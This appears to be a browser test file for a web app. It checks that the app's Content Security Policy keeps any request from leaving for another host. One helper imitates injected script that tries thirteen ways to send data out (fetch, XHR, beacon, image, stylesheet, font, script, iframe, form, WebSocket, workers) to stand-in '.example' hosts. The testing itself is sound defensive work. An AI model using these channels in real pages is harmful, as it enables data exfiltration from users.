import { describe, expect, inject, it } from 'vitest';
import type { Page } from 'playwright-core';
import { serveSite } from '../../src/cli/serve-site.js';
import {
	acceptSet,
	chooseFiles,
	uploadCase,
	chooseSpan,
	visit,
	waitForFigures,
} from './browser.ts';

/** Every way out that a script has: each tries another host, named after it. */
const CHANNELS = [
	'fetch',
	'xhr',
	'balise',
	'image',
	'style',
	'police',
	'script',
	'cadre',
	'formulaire',
	'socket',
	'travailleur',
	'module',
	'imbrique',
] as const;

/** Runs in the page: tries every channel, then waits for what may still leave. */
async function tryEverything(page: Page): Promise<void> {
	await page.evaluate(async () => {
		const to = (name: string) => `http://${name}.example/`;
		const attempt = (work: () => unknown): void => {
			try {
				const done = work();
				if (done instanceof Promise) done.catch(() => undefined);
			} catch {
				// A channel that is refused at once is what is wanted.
			}
		};
		const add = (tag: string, attributes: Record<string, string>): void => {
			attempt(() => {
				const element = document.createElement(tag);
				for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
				document.body.append(element);
			});
		};
		const startWorker = (code: string): void => {
			attempt(
				() =>
					new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })), {
						type: 'module',
					}),
			);
		};
		attempt(() => fetch(to('fetch'), { mode: 'no-cors' }));
		attempt(() => {
			const request = new XMLHttpRequest();
			request.open('GET', to('xhr'));
			request.send();
		});
		attempt(() => navigator.sendBeacon(to('balise'), 'x'));
		add('img', { src: to('image') });
		add('link', { rel: 'stylesheet', href: to('style') });
		attempt(() => new FontFace('x', `url(${to('police')})`).load());
		add('script', { src: to('script') });
		add('iframe', { src: to('cadre') });
		attempt(() => {
			const form = document.createElement('form');
			form.action = to('formulaire');
			form.target = 'ailleurs';
			document.body.append(form);
			form.submit();
		});
		attempt(() => new WebSocket('ws://socket.example/'));
		startWorker(`fetch('${to('travailleur')}', { mode: 'no-cors' }).catch(() => 0);`);
		add('script', { type: 'module', src: to('module') });
		startWorker(
			`new Worker(URL.createObjectURL(new Blob(["fetch('${to('imbrique')}', { mode: 'no-cors' })"])));`,
		);
		await new Promise((resolve) => setTimeout(resolve, 2_000));
	});
}

function listChannels(hosts: readonly string[]): readonly string[] {
	return CHANNELS.filter((name) => hosts.includes(`${name}.example`));
}

describe('nothing leaves for another host', () => {
	it('while the demonstration and a set of files are read and explored', async () => {
		const { page, hosts, listReached, close } = await visit(inject('address'));
		await waitForFigures(page);
		await chooseFiles(page, await uploadCase('small'));
		await acceptSet(page);
		await chooseSpan(page, 'S2');
		await waitForFigures(page);
		expect([...hosts]).toEqual(['127.0.0.1']);
		expect(listReached()).toEqual([]);
		await close();
	});

	it('even where a script that got into the page tries every channel', async () => {
		const { page, listReached, close } = await visit(inject('address'));
		await waitForFigures(page);
		await tryEverything(page);
		expect(listReached()).toEqual([]);
		await close();
	});

	it('where the server sends no header, by the policy that the pages carry', async () => {
		const bare = await serveSite({ headers: {} });
		const { page, listReached, close } = await visit(bare.address);
		await waitForFigures(page);
		await tryEverything(page);
		expect(listReached()).toEqual([]);
		await close();
		await bare.close();
	});

	it('positive control: without a policy, the sink sees every channel', async () => {
		const bare = await serveSite({ headers: {} });
		const { page, listReached, close } = await visit(bare.address, '', { bypassCSP: true });
		await waitForFigures(page);
		await tryEverything(page);
		expect(listChannels(listReached())).toEqual([...CHANNELS]);
		await close();
		await bare.close();
	});
});
